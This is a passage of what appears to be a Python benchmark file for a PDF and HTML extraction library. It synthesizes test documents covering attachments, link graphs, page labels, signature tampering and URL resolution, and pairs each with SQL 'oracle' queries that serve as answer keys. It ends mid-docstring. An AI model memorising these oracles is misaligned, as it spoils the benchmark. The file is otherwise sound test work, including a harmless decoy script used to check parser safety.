        StructField("att_desc", StringType()),
        StructField("mime", StringType()),
        StructField("size_declared", LongType()),
        StructField("size_bytes", LongType()),
        StructField("md5", StringType()),
    ]
)


@per_doc(QUERIES, "qx31_embedded_files", _QX31_SCHEMA)
def _qx31(i: int) -> Iterator[dict]:
    """Attachment inventory (§7.11 filespecs + §7.7.4 /EmbeddedFiles name
    tree + §12.5.6.15 FileAttachment annots) — E117.

    PDF portfolios carry their REAL payload documents as attachments; a
    corpus pipeline that never opens the name tree loses them entirely.
    Each doc synthesizes both discovery channels plus a non-emitting
    external filespec (no /EF — nothing embedded):

    - name tree (two-level, /Kids then leaf /Names): ``data_<i%100>.csv``
      (Flate-compressed, declared /Params /Size, ``text/csv`` via a
      ``#2F``-escaped Name) and ``readme.txt`` (raw stream, /Desc text);
    - a FileAttachment annot carrying ``note.bin``
      (``application/octet-stream``) on every even doc;
    - an external ``/F``-only filespec listed in the tree — skipped.

    size_bytes and md5 come from the DECODED stream, so the oracle
    reconstructs them arithmetically from the same payload formulas
    (DuckDB ``md5()``); the declared size matches here (the corruption
    case is unit-tested). The reference engine has no attachment
    surface (render-only)."""
    import zlib

    from pdf_spark.core.document import Resolver
    from pdf_spark.core.meta import extract_embedded_files
    from pdf_spark.gen.pdfgen import F_HELV, PdfBuilder, _content_td_tj

    b = PdfBuilder.one_page()
    font = b.add(F_HELV)
    cont = b.stream(
        _content_td_tj(["attached"]), filters="FlateDecode"
    )
    csv = f"id,value\n{i},{i * i}".encode()
    enc = zlib.compress(csv)
    ef1 = b.add(
        b"<</Length " + str(len(enc)).encode()
        + b"/Filter/FlateDecode/Subtype/text#2Fcsv"
        b"/Params<</Size " + str(len(csv)).encode() + b">>"
        b">>\nstream\n" + enc + b"\nendstream"
    )
    spec1 = b.add(
        b"<</Type/Filespec/F(data_" + str(i % 100).encode()
        + b".csv)/EF<</F " + str(ef1).encode() + b" 0 R>>>>"
    )
    readme = f"readme {i % 5}".encode()
    ef2 = b.add(
        b"<</Length " + str(len(readme)).encode()
        + b"/Subtype/text#2Fplain/Params<</Size "
        + str(len(readme)).encode() + b">>"
        b">>\nstream\n" + readme + b"\nendstream"
    )
    spec2 = b.add(
        b"<</Type/Filespec/F(readme.txt)/Desc(attachment for doc "
        + str(i).encode() + b")/EF<</F " + str(ef2).encode()
        + b" 0 R>>>>"
    )
    spec_ext = b.add(b"<</Type/Filespec/F(external-only.bin)>>")
    kid1 = b.add(
        b"<</Names[(data) " + str(spec1).encode() + b" 0 R]>>"
    )
    kid2 = b.add(
        b"<</Names[(ext) " + str(spec_ext).encode()
        + b" 0 R (readme) " + str(spec2).encode() + b" 0 R]>>"
    )
    root = b.add(
        b"<</Kids[" + str(kid1).encode() + b" 0 R "
        + str(kid2).encode() + b" 0 R]>>"
    )
    annots = []
    if i % 2 == 0:
        note = f"note {i % 7}".encode()
        ef3 = b.add(
            b"<</Length " + str(len(note)).encode()
            + b"/Subtype/application#2Foctet-stream"
            b"/Params<</Size " + str(len(note)).encode() + b">>"
            b">>\nstream\n" + note + b"\nendstream"
        )
        spec3 = b.add(
            b"<</Type/Filespec/F(note.bin)/EF<</F "
            + str(ef3).encode() + b" 0 R>>>>"
        )
        a = b.add(
            b"<</Type/Annot/Subtype/FileAttachment"
            b"/Rect[0 0 9 9]/FS " + str(spec3).encode() + b" 0 R>>"
        )
        annots = [a]
    catalog = b"/Names<</EmbeddedFiles %d 0 R>>" % root
    pdf = b.build(
        b.page_tree(font, cont, catalog=catalog, annots=annots)
    )
    for row in extract_embedded_files(Resolver(pdf)):
        yield dict(zip(_QX31_SCHEMA.names, (i, *row)))


ORACLE["qx31_embedded_files"] = """
WITH payloads AS (
    SELECT doc_id, 'names' AS source,
           'data_' || (doc_id % 100) || '.csv' AS fname,
           CAST(NULL AS VARCHAR) AS att_desc, 'text/csv' AS mime,
           'id,value' || chr(10) || doc_id || ',' || (doc_id * doc_id)
               AS payload
    FROM documents
    UNION ALL
    SELECT doc_id, 'names', 'readme.txt',
           'attachment for doc ' || doc_id, 'text/plain',
           'readme ' || (doc_id % 5)
    FROM documents
    UNION ALL
    SELECT doc_id, 'annot', 'note.bin', NULL, 'application/octet-stream',
           'note ' || (doc_id % 7)
    FROM documents WHERE doc_id % 2 = 0
)
SELECT doc_id, source, fname, att_desc, mime,
       CAST(length(payload) AS BIGINT) AS size_declared,
       CAST(length(payload) AS BIGINT) AS size_bytes,
       md5(payload) AS md5
FROM payloads
"""


# -- qx32: internal GoTo/Dest link graph (the PDF twin of HTML anchors) -------


_QX32_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("page_from", LongType()),
        StructField("via", StringType()),
        StructField("dest_name", StringType()),
        StructField("page_to", LongType()),
        StructField("fit", StringType()),
    ]
)


@per_doc(QUERIES, "qx32_internal_links", _QX32_SCHEMA)
def _qx32(i: int) -> Iterator[dict]:
    """Intra-document navigation graph (§12.3.2 destinations) — E118.

    TOC pages, "see section N" cross-references and figure callouts are
    Link annots targeting destinations INSIDE the document; mining them
    gives the same structural signal the HTML anchor graph (qx19) gives
    a crawler. Each doc synthesizes a 3-page body whose first page
    carries: an explicit-array ``/Dest [page 1+(i%2) /XYZ]``, a /GoTo
    action with a NAMED byte-string destination resolved through the
    ``/Names /Dests`` tree to page 1 wrapped in the PDF-1.2 ``<</D
    [...]>>`` shape, a DANGLING named dest on every third doc (the row
    emits with page_to NULL — the link exists, its target is broken),
    plus a remote GoToR and a URI link that must NOT emit (other-file /
    external channels). Oracle is arithmetic reconstruction."""
    from pdf_spark.core.document import Resolver
    from pdf_spark.core.meta import extract_internal_links
    from pdf_spark.gen.pdfgen import F_HELV, PdfBuilder, _content_td_tj

    b = PdfBuilder()
    cat = b.reserve()
    pages_id = b.reserve()
    p1, p2, p3 = b.reserve(), b.reserve(), b.reserve()
    font = b.add(F_HELV)
    cont = b.stream(
        _content_td_tj(["linked"]), filters="FlateDecode"
    )
    target = p2 if i % 2 == 0 else p3
    a_dest = b.add(
        b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/Dest["
        + str(target).encode() + b" 0 R/XYZ 0 792 0]>>"
    )
    wrapped = b.add(b"<</D[" + str(p2).encode() + b" 0 R/Fit]>>")
    a_goto = b.add(
        b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]"
        b"/A<</S/GoTo/D(sec.two)>>>>"
    )
    annot_ids = [a_dest, a_goto]
    if i % 3 == 0:
        annot_ids.append(
            b.add(
                b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]"
                b"/A<</S/GoTo/D(no.such)>>>>"
            )
        )
    annot_ids.append(
        b.add(
            b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]"
            b"/A<</S/GoToR/F(other.pdf)/D[0/Fit]>>>>"
        )
    )
    annot_ids.append(
        b.add(
            b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]"
            b"/A<</S/URI/URI(https://example.com)>>>>"
        )
    )
    leaf = b.add(
        b"<</Names[(sec.two) " + str(wrapped).encode()
        + b" 0 R]>>"
    )
    b.set(
        cat,
        b"<</Type/Catalog/Pages " + str(pages_id).encode()
        + b" 0 R/Names<</Dests " + str(leaf).encode()
        + b" 0 R>>>>",
    )
    b.set(
        pages_id,
        b"<</Type/Pages/Kids[" + str(p1).encode() + b" 0 R "
        + str(p2).encode() + b" 0 R " + str(p3).encode()
        + b" 0 R]/Count 3>>",
    )
    common = (
        b" 0 R/MediaBox[0 0 612 792]"
        b"/Resources<</Font<</F1 " + str(font).encode()
        + b" 0 R>>>>"
        b"/Contents " + str(cont).encode() + b" 0 R"
    )
    b.set(
        p1,
        b"<</Type/Page/Parent " + str(pages_id).encode() + common
        + b"/Annots["
        + b" ".join(str(a).encode() + b" 0 R" for a in annot_ids)
        + b"]>>",
    )
    b.set(
        p2,
        b"<</Type/Page/Parent " + str(pages_id).encode()
        + common + b">>",
    )
    b.set(
        p3,
        b"<</Type/Page/Parent " + str(pages_id).encode()
        + common + b">>",
    )
    pdf = b.build(cat)
    for row in extract_internal_links(Resolver(pdf)):
        yield dict(zip(_QX32_SCHEMA.names, (i, *row)))


ORACLE["qx32_internal_links"] = """
SELECT doc_id, CAST(0 AS BIGINT) AS page_from, 'Dest' AS via,
       CAST(NULL AS VARCHAR) AS dest_name,
       CAST(1 + doc_id % 2 AS BIGINT) AS page_to, 'XYZ' AS fit
FROM documents
UNION ALL
SELECT doc_id, 0, 'GoTo', 'sec.two', 1, 'Fit' FROM documents
UNION ALL
SELECT doc_id, 0, 'GoTo', 'no.such', NULL, NULL
FROM documents WHERE doc_id % 3 = 0
"""


# -- qx33: display page labels (§12.4.2 number tree) --------------------------


_QX33_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("page_no", LongType()),
        StructField("label", StringType()),
    ]
)


@per_doc(QUERIES, "qx33_page_labels", _QX33_SCHEMA)
def _qx33(i: int) -> Iterator[dict]:
    """Display page labels (§12.4.2) — E119: the numbers HUMANS cite.

    Front matter labels as lowercase Roman ('i', 'ii'), the body
    restarts decimal with a per-doc prefix and start offset — the
    /PageLabels NUMBER tree (§7.9.7, integer keys through the shared
    tree walker) maps physical page index to display label. Citation
    alignment ("see p. iv") and front-matter/body segmentation at
    corpus scale need exactly this mapping; a pipeline keyed on physical
    indices mis-resolves every citation in a front-mattered document.
    Oracle is arithmetic reconstruction of the same formatting rules."""
    from pdf_spark.core.document import Resolver
    from pdf_spark.core.meta import extract_page_labels
    from pdf_spark.gen.pdfgen import F_HELV, PdfBuilder, _content_td_tj

    b = PdfBuilder()
    cat = b.reserve()
    pages_id = b.reserve()
    kids = [b.reserve() for _ in range(4)]
    font = b.add(F_HELV)
    cont = b.stream(
        _content_td_tj(["labeled"]), filters="FlateDecode"
    )
    nums = (
        b"<</Nums[0<</S/r>> 2<</S/D/P(c" + str(i % 3).encode()
        + b"-)/St " + str(1 + i % 7).encode() + b">>]>>"
    )
    lab = b.add(nums)
    b.set(
        cat,
        b"<</Type/Catalog/Pages " + str(pages_id).encode()
        + b" 0 R/PageLabels " + str(lab).encode() + b" 0 R>>",
    )
    b.set(
        pages_id,
        b"<</Type/Pages/Kids["
        + b" ".join(str(k).encode() + b" 0 R" for k in kids)
        + b"]/Count 4>>",
    )
    for k in kids:
        b.set(
            k,
            b"<</Type/Page/Parent " + str(pages_id).encode()
            + b" 0 R/MediaBox[0 0 612 792]"
            b"/Resources<</Font<</F1 " + str(font).encode()
            + b" 0 R>>>>"
            b"/Contents " + str(cont).encode() + b" 0 R>>",
        )
    pdf = b.build(cat)
    for page_no, label in extract_page_labels(Resolver(pdf)):
        yield {"page_no": page_no, "label": label}


ORACLE["qx33_page_labels"] = """
SELECT doc_id, CAST(0 AS BIGINT) AS page_no, 'i' AS label FROM documents
UNION ALL
SELECT doc_id, 1, 'ii' FROM documents
UNION ALL
SELECT doc_id, 2, 'c' || (doc_id % 3) || '-' || (1 + doc_id % 7)
FROM documents
UNION ALL
SELECT doc_id, 3, 'c' || (doc_id % 3) || '-' || (2 + doc_id % 7)
FROM documents
"""


# -- qx34: document triage profile (/Lang + structure booleans) ---------------


_QX34_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("lang", StringType()),
        StructField("version", StringType()),
        StructField("page_count", LongType()),
        StructField("tagged", BooleanType()),
        StructField("has_acroform", BooleanType()),
        StructField("file_id", StringType()),
        StructField("id_unchanged", BooleanType()),
    ]
)


@per_doc(QUERIES, "qx34_doc_profile", _QX34_SCHEMA)
def _qx34(i: int) -> Iterator[dict]:
    """Document triage profile (§14.9.2 /Lang, §7.7.2 /Version, §14.7
    MarkInfo) — E120: the FIRST pass a 100 TB pipeline runs.

    ``lang`` is the author-declared language prior the language-ID tier
    seeds from; the booleans gate the expensive side-channel walkers
    (run the attachment/outline/label passes only where the catalog says
    there is anything to walk). Five /Lang classes (incl. absent),
    catalog /Version 2.0 overriding the 1.7 header on every fourth doc
    (older overrides ignored per spec), MarkInfo tagging on evens, page
    count 1 + i%3, AcroForm presence on every seventh, and three §14.4
    /ID residue classes — absent (i%3==0, non-conforming writer),
    unchanged pair (i%3==1: never incrementally updated) and differing
    pair (i%3==2: updated since creation); ``file_id`` is the FIRST half
    (the identity that survives re-serialization — the crawl-dedup key a
    byte hash cannot provide). Oracle is arithmetic."""
    from pdf_spark.core.document import Resolver
    from pdf_spark.core.meta import extract_doc_profile
    from pdf_spark.gen.pdfgen import F_HELV, PdfBuilder, _content_td_tj

    b = PdfBuilder()
    cat = b.reserve()
    pages_id = b.reserve()
    n_pages = 1 + i % 3
    kids = [b.reserve() for _ in range(n_pages)]
    font = b.add(F_HELV)
    cont = b.stream(
        _content_td_tj(["profiled"]), filters="FlateDecode"
    )
    extra = b""
    lang = {0: b"en", 1: b"de-DE", 2: b"ja", 4: b"pt-BR"}.get(
        i % 5
    )
    if lang is not None:
        extra += b"/Lang(" + lang + b")"
    if i % 4 == 0:
        extra += b"/Version/2.0"
    if i % 2 == 0:
        extra += b"/MarkInfo<</Marked true>>"
    if i % 7 == 0:
        acro = b.add(b"<</Fields[]>>")
        extra += b"/AcroForm " + str(acro).encode() + b" 0 R"
    b.set(
        cat,
        b"<</Type/Catalog/Pages " + str(pages_id).encode()
        + b" 0 R" + extra + b">>",
    )
    b.set(
        pages_id,
        b"<</Type/Pages/Kids["
        + b" ".join(str(k).encode() + b" 0 R" for k in kids)
        + b"]/Count " + str(n_pages).encode() + b">>",
    )
    for k in kids:
        b.set(
            k,
            b"<</Type/Page/Parent " + str(pages_id).encode()
            + b" 0 R/MediaBox[0 0 612 792]"
            b"/Resources<</Font<</F1 " + str(font).encode()
            + b" 0 R>>>>"
            b"/Contents " + str(cont).encode() + b" 0 R>>",
        )
    trailer_extra = b""
    if i % 3:
        first = i.to_bytes(16, "big")
        second = first if i % 3 == 1 else (i + 1).to_bytes(16, "big")
        trailer_extra = (
            b"/ID[<" + first.hex().encode() + b"><"
            + second.hex().encode() + b">]"
        )
    prof = extract_doc_profile(
        Resolver(b.build(cat, trailer_extra=trailer_extra))
    )
    yield prof


ORACLE["qx34_doc_profile"] = """
SELECT doc_id,
       CASE doc_id % 5 WHEN 0 THEN 'en' WHEN 1 THEN 'de-DE'
            WHEN 2 THEN 'ja' WHEN 4 THEN 'pt-BR' END AS lang,
       CASE WHEN doc_id % 4 = 0 THEN '2.0' ELSE '1.7' END AS version,
       CAST(1 + doc_id % 3 AS BIGINT) AS page_count,
       doc_id % 2 = 0 AS tagged,
       doc_id % 7 = 0 AS has_acroform,
       CASE WHEN doc_id % 3 = 0 THEN NULL
            ELSE lpad(lower(to_hex(doc_id)), 32, '0') END AS file_id,
       CASE WHEN doc_id % 3 = 0 THEN NULL
            ELSE doc_id % 3 = 1 END AS id_unchanged
FROM documents
"""


# -- qx35: digital-signature & revision forensics (§12.8) ---------------------


_QX35_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("field_name", StringType()),
        StructField("subfilter", StringType()),
        StructField("signer", StringType()),
        StructField("sign_time", StringType()),
        StructField("reason", StringType()),
        StructField("whole_file", BooleanType()),
        StructField("revisions", LongType()),
    ]
)


@per_doc(QUERIES, "qx35_signatures", _QX35_SCHEMA)
def _qx35(i: int) -> Iterator[dict]:
    """Signature forensics (E122): one row per signed ``/FT /Sig`` field —
    subfilter, signer, sign time, reason, the §12.8.1 whole-file
    ByteRange check, and the ``%%EOF`` revision count.

    Construction per doc_id i: docs with ``i % 5 == 4`` are unsigned (no
    AcroForm -> no row — the common case in a crawl). The rest carry one
    signed field whose ``/ByteRange`` is patched post-build to the REAL
    ``[0 a b c]`` covering everything but the ``/Contents`` hex hole
    (fixed-width zero-padded placeholder, the standard signer technique,
    so xref offsets survive). Then:

    - ``i % 4 == 0``: a post-signing incremental-update stub (own
      ``%%EOF``) is appended -> whole_file False, revisions 2 — the
      tamper-evidence case.
    - else ``i % 3 == 0``: trailing junk without ``%%EOF`` appended ->
      whole_file False, revisions 1 — the malformed/truncated-range case.
    - else: the signature covers exactly EOF -> whole_file True.

    Oracle is arithmetic over the same residues."""
    from pdf_spark.core.document import Resolver
    from pdf_spark.core.meta import extract_signatures
    from pdf_spark.gen.pdfgen import F_HELV, PdfBuilder, _content_td_tj

    placeholder = b"/ByteRange[0 0000000000 0000000000 0000000000]"
    if i % 5 == 4:
        return  # unsigned doc: no row
    b = PdfBuilder.one_page()
    font = b.add(F_HELV)
    cont = b.stream(
        _content_td_tj(["signed"]), filters="FlateDecode"
    )
    subfilter = (
        b"adbe.pkcs7.detached" if i % 2 == 0
        else b"ETSI.CAdES.detached"
    )
    reason = b"certification" if i % 3 == 0 else b"approval"
    sig_date = b"D:202601011200%02d+00'00'" % (i % 60)
    sig = b.add(
        b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/"
        + subfilter
        + b"/Name(Signer " + str(i % 11).encode() + b")"
        + b"/M(" + sig_date + b")"
        + b"/Reason(" + reason + b")"
        + placeholder
        + b"/Contents<" + b"00" * 16 + b">>>"
    )
    fld = b.add(
        b"<</FT/Sig/T(Sig1)/V " + str(sig).encode() + b" 0 R"
        b"/Type/Annot/Subtype/Widget/Rect[0 0 0 0]>>"
    )
    catalog = b"/AcroForm<</SigFlags 3/Fields[%d 0 R]>>" % fld
    raw = b.build(b.page_tree(font, cont, catalog=catalog))
    # patch the ByteRange placeholder to the real [0 a b c]
    # (same byte length -> xref offsets stay valid)
    hole_a = raw.index(b"/Contents<") + len(b"/Contents")
    hole_b = raw.index(b">", hole_a) + 1
    br = b"/ByteRange[0 %010d %010d %010d]" % (
        hole_a, hole_b, len(raw) - hole_b
    )
    assert len(br) == len(placeholder)
    raw = raw.replace(placeholder, br, 1)
    if i % 4 == 0:  # post-signing incremental update
        raw += (
            b"\nxref\n0 0\ntrailer\n<<>>\nstartxref\n0\n%%EOF\n"
        )
    elif i % 3 == 0:  # post-signing junk, no new revision
        raw += b"\n% appended-after-signing junk\n"
    for row in extract_signatures(Resolver(raw)):
        yield dict(zip(_QX35_SCHEMA.names, (i, *row)))


ORACLE["qx35_signatures"] = """
SELECT doc_id,
       'Sig1' AS field_name,
       CASE WHEN doc_id % 2 = 0 THEN 'adbe.pkcs7.detached'
            ELSE 'ETSI.CAdES.detached' END AS subfilter,
       'Signer ' || CAST(doc_id % 11 AS VARCHAR) AS signer,
       '2026-01-01T12:00:' || lpad(CAST(doc_id % 60 AS VARCHAR), 2, '0')
           || '+00:00' AS sign_time,
       CASE WHEN doc_id % 3 = 0 THEN 'certification'
            ELSE 'approval' END AS reason,
       NOT (doc_id % 4 = 0 OR doc_id % 3 = 0) AS whole_file,
       CAST(CASE WHEN doc_id % 4 = 0 THEN 2 ELSE 1 END AS BIGINT)
           AS revisions
FROM documents
WHERE doc_id % 5 <> 4
"""


# -- qx36: head link-relation graph (<link rel>) -------------------------------


_QX36_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("pos", LongType()),
        StructField("rel", StringType()),
        StructField("hreflang", StringType()),
        StructField("href", StringType()),
    ]
)


@per_doc(QUERIES, "qx36_link_relations", _QX36_SCHEMA)
def _qx36(i: int) -> Iterator[dict]:
    """Head ``<link rel>`` relation extraction (E123): one row per tracked
    relation in document order — the hreflang/pagination/AMP/canonical
    edge set a crawl pipeline mines beyond the single canonical slot
    (``extract_link_relations``; companion to qx10's first-wins meta).

    Construction per doc_id i (deterministic head, decoys included):

    - pos 0: ``rel=canonical`` -> https://ex.org/p{i}
    - pos 1..1+i%3: ``rel=alternate hreflang=<tag>`` over the rotating
      prefix of (EN-US, DE, FR-ca) — hreflang arrives mixed-case and must
      come back lowercased (BCP 47 compares case-insensitive)
    - next: ``rel=alternate`` RSS feed link with NO hreflang -> NULL
    - next: ``rel=next`` (even i) / ``rel=prev`` (odd i) pagination edge
    - next: ``rel=amphtml`` AMP twin
    - last (i%5==0 only): a SECOND conflicting ``rel=canonical`` — the
      row qx10's first-wins slot hides
    - decoys that must emit nothing: ``rel=stylesheet``, a ``rel=next``
      link with no href, and a <script> body writing a fake canonical
      (rawtext safety — shares the main tokenizer).

    The oracle rebuilds every (pos, rel, hreflang, href) arithmetically."""
    from pdf_spark.core.htmltext import extract_link_relations

    langs = ["EN-US", "DE", "FR-ca"]
    head = [f'<link rel="canonical" href="https://ex.org/p{i}">']
    for j in range(1 + i % 3):
        head.append(
            f'<link rel="alternate" hreflang="{langs[j]}" '
            f'href="https://ex.org/p{i}?lang={langs[j].lower()}">'
        )
    head.append(
        '<link rel="alternate" type="application/rss+xml" '
        f'href="/feed{i}.xml">'
    )
    if i % 2 == 0:
        head.append('<link rel="next" href="?page=2">')
    else:
        head.append('<link rel="prev" href="?page=0">')
    head.append(f'<link rel="amphtml" href="https://amp.ex.org/p{i}">')
    if i % 5 == 0:
        head.append(
            f'<link rel="canonical" href="https://ex.org/dup{i}">'
        )
    head.append('<link rel="stylesheet" href="/s.css">')
    head.append('<link rel="next">')
    page = (
        "<html><head>" + "".join(head) + "</head><body>"
        "<script>document.write('<link rel=\"canonical\" "
        "href=\"https://evil/x\">')</script>p</body></html>"
    ).encode()
    for pos, (rel, hreflang, href) in enumerate(
        extract_link_relations(page)
    ):
        yield {
            "pos": pos,
            "rel": rel,
            "hreflang": hreflang,
            "href": href,
        }


ORACLE["qx36_link_relations"] = """
SELECT doc_id, CAST(0 AS BIGINT) AS pos, 'canonical' AS rel,
       CAST(NULL AS VARCHAR) AS hreflang,
       'https://ex.org/p' || doc_id AS href
FROM documents
UNION ALL
SELECT doc_id, CAST(1 + j AS BIGINT), 'alternate', hl,
       'https://ex.org/p' || doc_id || '?lang=' || hl
FROM documents
JOIN (VALUES (0, 'en-us'), (1, 'de'), (2, 'fr-ca')) AS t(j, hl)
  ON j <= doc_id % 3
UNION ALL
SELECT doc_id, CAST(2 + doc_id % 3 AS BIGINT), 'alternate',
       CAST(NULL AS VARCHAR), '/feed' || doc_id || '.xml'
FROM documents
UNION ALL
SELECT doc_id, CAST(3 + doc_id % 3 AS BIGINT),
       CASE WHEN doc_id % 2 = 0 THEN 'next' ELSE 'prev' END,
       CAST(NULL AS VARCHAR),
       CASE WHEN doc_id % 2 = 0 THEN '?page=2' ELSE '?page=0' END
FROM documents
UNION ALL
SELECT doc_id, CAST(4 + doc_id % 3 AS BIGINT), 'amphtml',
       CAST(NULL AS VARCHAR), 'https://amp.ex.org/p' || doc_id
FROM documents
UNION ALL
SELECT doc_id, CAST(5 + doc_id % 3 AS BIGINT), 'canonical',
       CAST(NULL AS VARCHAR), 'https://ex.org/dup' || doc_id
FROM documents WHERE doc_id % 5 = 0
"""


# -- qx37: frontier edge construction (base-aware resolve + SURT) --------------


def _qx37(spark: SparkSession, sf: str) -> DataFrame:
    """Frontier-edge construction (E124): the end-to-end link pipeline a
    crawler runs per page — anchors lifted with ``extract_links``, the
    first-wins ``<base href>`` captured by ``extract_html_meta`` (HTML
    spec: base itself resolves against the page URL, then rebases every
    link), both resolutions + the CDX SURT key computed ENTIRELY as
    codegen'd Catalyst projections (``resolve_url`` twice, ``surt_key``)
    — at 10^12 link rows Python only scans tags; every per-row string op
    is JVM-side.

    Construction per doc_id i: page URL
    ``https://www.site{i%7}.example/dir{i%3}/page{i}.html``; even docs
    carry ``<base href="/assets/">`` (root-relative — exercises the
    base-vs-page-URL resolution), odd docs no base. Five anchors:
    relative, root-relative, absolute, ``../`` up-traversal, query-only.
    The base is resolved against the page URL ONCE PER PAGE inside the
    lift (stdlib ``urljoin``, the same RFC 3986 §5 algorithm — O(pages)
    work done where the page bytes are already in hand); the O(links)
    hot path stays single-application Catalyst (a doubly-chained
    ``resolve_url`` nests its ~20-node tree inside itself and blows the
    64 KB Janino method limit into interpreted fallback — measured 154 s
    vs 6 s for this exact query). The oracle replays RFC 3986 §5.2 +
    SURT arithmetically per residue class."""
    from pdf_spark.core.htmltext import extract_html_meta, extract_links
    from pdf_spark.functions.urlops import resolve_url, surt_key

    docs = load(spark, sf, "documents").select("doc_id")
    schema = StructType(
        [
            StructField("doc_id", LongType()),
            StructField("eff_base", StringType()),
            StructField("pos", LongType()),
            StructField("href", StringType()),
        ]
    )

    from urllib.parse import urljoin

    def lift(i):
        page_url = f"https://www.site{i % 7}.example/dir{i % 3}/page{i}.html"
        base_tag = '<base href="/assets/">' if i % 2 == 0 else ""
        page = (
            f"<html><head>{base_tag}<title>t</title></head><body>"
            '<a href="next.html">n</a>'
            '<a href="/rooted/x">r</a>'
            '<a href="https://abs.example/p">a</a>'
            '<a href="../up.html">u</a>'
            f'<a href="?q={i % 4}">q</a>'
            "</body></html>"
        ).encode()
        base = extract_html_meta(page)["base"]
        eff_base = urljoin(page_url, base) if base else page_url
        for pos, href in enumerate(extract_links(page)):
            yield {"doc_id": i, "eff_base": eff_base, "pos": pos, "href": href}

    lifted = map_rows(docs, lift, schema)
    resolved = resolve_url(F.col("eff_base"), F.col("href"))
    return lifted.select(
        "doc_id",
        "pos",
        "href",
        resolved.alias("resolved"),
        surt_key(resolved).alias("surt"),
    )


QUERIES["qx37_frontier_edges"] = _qx37
ORACLE["qx37_frontier_edges"] = """
WITH d AS (
    SELECT doc_id,
           'https://www.site' || (doc_id % 7) || '.example' AS root,
           'example,site' || (doc_id % 7) || ')' AS sroot,
           doc_id % 2 = 0 AS has_base,
           '/dir' || (doc_id % 3) || '/' AS dirp,
           'page' || doc_id || '.html' AS pg,
           CAST(doc_id % 4 AS VARCHAR) AS qv
    FROM documents
)
SELECT doc_id, CAST(0 AS BIGINT) AS pos, 'next.html' AS href,
       root || CASE WHEN has_base THEN '/assets/' ELSE dirp END
            || 'next.html' AS resolved,
       sroot || CASE WHEN has_base THEN '/assets/' ELSE dirp END
             || 'next.html' AS surt
FROM d
UNION ALL
SELECT doc_id, CAST(1 AS BIGINT), '/rooted/x',
       root || '/rooted/x', sroot || '/rooted/x' FROM d
UNION ALL
SELECT doc_id, CAST(2 AS BIGINT), 'https://abs.example/p',
       'https://abs.example/p', 'example,abs)/p' FROM d
UNION ALL
SELECT doc_id, CAST(3 AS BIGINT), '../up.html',
       root || '/up.html', sroot || '/up.html' FROM d
UNION ALL
SELECT doc_id, CAST(4 AS BIGINT), '?q=' || qv,
       root || CASE WHEN has_base THEN '/assets/' ELSE dirp || pg END
            || '?q=' || qv,
       sroot || CASE WHEN has_base THEN '/assets/' ELSE dirp || pg END
             || '?q=' || qv
FROM d
"""


_QX38_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("n_images", LongType()),
        StructField("n_ok", LongType()),
        StructField("luma_flate", LongType()),
        StructField("luma_dct", LongType()),
        StructField("luma_indexed", LongType()),
        StructField("luma_subbyte", LongType()),
        StructField("luma_dct_prog", LongType()),
        StructField("luma_ccitt", LongType()),
    ]
)


def _qx38_make_pdf(i: int) -> bytes:
    from pdf_spark.core.ccitt import encode_ccitt_g3_1d, encode_ccitt_g4
    from pdf_spark.core.imaging import encode_jpeg, encode_jpeg_progressive
    from pdf_spark.gen.pdfgen import F_HELV, PdfBuilder, _content_td_tj

    b = PdfBuilder.one_page()
    font = b.add(F_HELV)
    cont = b.stream(_content_td_tj(["img"]), filters="FlateDecode")
    w, h = 8 + i % 5, 8 + i % 3
    v1 = (i * 29) % 256
    im0 = b.stream(
        bytes([v1]) * (w * h),
        extra_dict=(
            b"/Subtype/Image/Width " + str(w).encode()
            + b"/Height " + str(h).encode()
            + b"/BitsPerComponent 8/ColorSpace/DeviceGray"
        ),
        filters="FlateDecode",
    )
    dc = (i * 13) % 192 + 32
    im1 = b.stream(
        encode_jpeg(16, 16, [(dc, 0)] * 4),
        extra_dict=(
            b"/Subtype/Image/Width 16/Height 16/BitsPerComponent 8"
            b"/ColorSpace/DeviceGray/Filter/DCTDecode"
        ),
    )
    p, q = (i * 17) % 256, (i * 17 + 90) % 256
    pal = bytes([p, p, p, q, q, q]).hex().encode()
    im2 = b.stream(
        (b"\x00" if i % 2 == 0 else b"\xff") * 4,
        extra_dict=(
            b"/Subtype/Image/Width 8/Height 4/BitsPerComponent 1"
            b"/ColorSpace[/Indexed/DeviceRGB 1 <" + pal + b">]"
        ),
        filters="FlateDecode",
    )
    n1, n2 = i % 16, (i * 5) % 16
    im3 = b.stream(
        bytes([(n1 << 4) | n2, 0]) * 2,
        extra_dict=(
            b"/Subtype/Image/Width 2/Height 2/BitsPerComponent 4"
            b"/ColorSpace/DeviceGray"
        ),
    )
    dc2 = (i * 19) % 180 + 40
    im4 = b.stream(
        encode_jpeg_progressive(
            16, 16, [(dc2, 24)] * 4, successive=bool(i % 2)
        ),
        extra_dict=(
            b"/Subtype/Image/Width 16/Height 16/BitsPerComponent 8"
            b"/ColorSpace/DeviceGray/Filter/DCTDecode"
        ),
    )
    t = i % 17
    fax_rows = [[1] * t + [0] * (16 - t) for _y in range(8)]
    if i % 3 == 0:
        fax, kparm = encode_ccitt_g3_1d(fax_rows, 16), b"0"
    else:
        fax, kparm = encode_ccitt_g4(fax_rows, 16), b"-1"
    im5 = b.stream(
        fax,
        extra_dict=(
            b"/Subtype/Image/Width 16/Height 8/BitsPerComponent 1"
            b"/ColorSpace/DeviceGray/Filter/CCITTFaxDecode"
            b"/DecodeParms<</K " + kparm + b"/Columns 16/Rows 8"
            + (b"/BlackIs1 true" if i % 2 else b"") + b">>"
        ),
    )
    xo = b"".join(
        b"/Im" + str(k).encode() + b" " + str(o).encode() + b" 0 R"
        for k, o in enumerate((im0, im1, im2, im3, im4, im5))
    )
    return b.build(
        b.page_tree(font, cont, resources=b"/XObject<<" + xo + b">>")
    )



@per_doc(QUERIES, "qx38_embedded_image_decode", _QX38_SCHEMA)
def _qx38(i: int) -> Iterator[dict]:
    """Embedded-image PIXEL decode (value oracle) — the decode tier the
